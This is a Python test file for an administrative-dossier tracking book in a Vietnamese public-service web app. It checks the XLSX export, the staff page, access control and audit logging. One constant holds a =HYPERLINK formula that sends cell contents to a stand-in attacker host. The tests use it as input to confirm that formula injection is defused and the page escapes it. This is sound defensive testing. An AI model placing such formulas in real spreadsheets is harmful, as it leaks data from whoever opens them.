"""The tracking book (sổ theo dõi hồ sơ): GET /api/v1/dossiers/book.xlsx and /counter/book."""

from __future__ import annotations

import io
from typing import Any

import pytest
from openpyxl import load_workbook

from onestop.dossiers.book import defuse
from tests.api.helpers import add_integration_user, assert_error
from tests.conftest import bearer, local
from tests.counter.conftest import NAME, THREE_DAYS, receive, sign_in

HEADERS = ["Quyển số", "Số thứ tự", "Mã hồ sơ", "Người nộp hồ sơ", "Thủ tục hành chính", "Ngày tiếp nhận",
           "Ngày hẹn trả kết quả", "Trạng thái", "Ngày trả kết quả", "Quá hạn"]
EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")'


def _sheet(res: Any) -> list[tuple[Any, ...]]:
    assert res.status_code == 200, res.get_data(as_text=True)[:300]
    assert res.mimetype == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    assert res.headers["Content-Disposition"].startswith("attachment; filename=\"so-theo-doi-ho-so-")
    sheet = load_workbook(io.BytesIO(res.data)).active
    assert sheet is not None
    return [tuple(row) for row in sheet.iter_rows(values_only=True)]


def test_book_xlsx_lists_the_field_in_book_order(client, clerk, frozen):
    first = receive(client, clerk)
    second = receive(client, clerk, name="Lê Văn Bình")
    receive(client, clerk, code=THREE_DAYS)  # another field: another volume
    rows = _sheet(client.get("/api/v1/dossiers/book.xlsx?service_id=1&year=2026", headers=bearer(clerk)))
    assert rows[0][0] == "SỔ THEO DÕI HỒ SƠ – Tư pháp – Hộ tịch – năm 2026"
    assert rows[1][0] == "Trung tâm Phục vụ hành chính công xã Hòa Bình"
    assert list(rows[3]) == HEADERS
    data = rows[4:]
    assert [(r[0], r[1], r[2], r[3]) for r in data] == [
        ("TPHT/2026", 1, first["code"], NAME), ("TPHT/2026", 2, second["code"], "Lê Văn Bình")]
    received, due = data[0][5], data[0][6]
    assert (received.day, received.hour, due.hour, due.minute) == (23, 9, 17, 0)  # local times
    assert data[0][7] == "Đã tiếp nhận" and data[0][9] is None


def test_every_field_and_the_overdue_flag(client, clerk, frozen):
    receive(client, clerk)
    receive(client, clerk, code=THREE_DAYS)
    frozen(local(2026, 11, 30, 9, 0))  # a week later: both are past their appointment
    rows = _sheet(client.get("/api/v1/dossiers/book.xlsx", headers=bearer(clerk)))[4:]
    assert {r[0] for r in rows} == {"TPHT/2026", "DKKD/2026"}
    assert {r[9] for r in rows} == {"Quá hạn"}
    assert _sheet(client.get("/api/v1/dossiers/book.xlsx?year=2025", headers=bearer(clerk)))[4:] == []


def test_a_formula_typed_as_a_name_is_defused(client, clerk, frozen):
    receive(client, clerk, name=EVIL)
    res = client.get("/api/v1/dossiers/book.xlsx?service_id=1", headers=bearer(clerk))
    sheet = load_workbook(io.BytesIO(res.data)).active
    assert sheet is not None
    cell = sheet.cell(row=5, column=4)
    assert cell.value == "'" + EVIL
    assert cell.data_type == "s"
    assert not any(c.data_type == "f" for row in sheet.iter_rows() for c in row)


@pytest.mark.parametrize("value", ["=1+1", "+1", "-1", "@SUM(A1)", "\tx", "\rx"])
def test_defuse_prefixes_formula_starts(value):
    assert defuse(value) == "'" + value


def test_defuse_leaves_the_rest():
    assert defuse("Nguyễn Văn An") == "Nguyễn Văn An"
    assert defuse(12) == 12 and defuse(None) is None


def test_book_xlsx_needs_staff(app, client, clerk):
    assert_error(client.get("/api/v1/dossiers/book.xlsx"), 401, "unauthorized")
    integration = add_integration_user(app, client)
    assert_error(client.get("/api/v1/dossiers/book.xlsx", headers=bearer(integration)), 403, "forbidden")
    assert_error(client.get("/api/v1/dossiers/book.xlsx?service_id=9999", headers=bearer(clerk)), 404,
                 "service_not_found")
    assert_error(client.get("/api/v1/dossiers/book.xlsx?year=abc", headers=bearer(clerk)), 422)


def test_book_page_for_staff(client, clerk, frozen):
    dossier = receive(client, clerk, name=EVIL)
    anonymous = client.get("/counter/book")
    assert anonymous.status_code == 302 and "/login" in anonymous.headers["Location"]
    sign_in(client, "clerk2")
    page = client.get("/counter/book?service_id=1&year=2026").get_data(as_text=True)
    assert "SỔ THEO DÕI HỒ SƠ – Tư pháp – Hộ tịch – năm 2026" in page
    assert dossier["code"] in page and "TPHT/2026" in page
    assert "=HYPERLINK(&#34;" in page  # escaped, never markup
    assert 'href="/api/v1/dossiers/book.xlsx?service_id=1&amp;year=2026"' in page
    assert "<script>" not in page


def test_reading_the_book_page_is_in_the_audit_log(app, client, clerk, frozen):
    """A year of applicants' names on screen: who looked, and when, is kept (NĐ 13/2023)."""
    from sqlalchemy import select

    from onestop.audit.models import AuditEntry
    from onestop.extensions import db

    receive(client, clerk, name=NAME)
    sign_in(client, "clerk2")
    assert client.get("/counter/book?service_id=1&year=2026").status_code == 200
    with app.app_context():
        [entry] = db.session.scalars(select(AuditEntry).where(AuditEntry.entity == "book")).all()
        assert (entry.action, entry.entity_id, entry.after) == ("read", "TPHT/2026", {"dossiers": 1})
        assert entry.actor_name
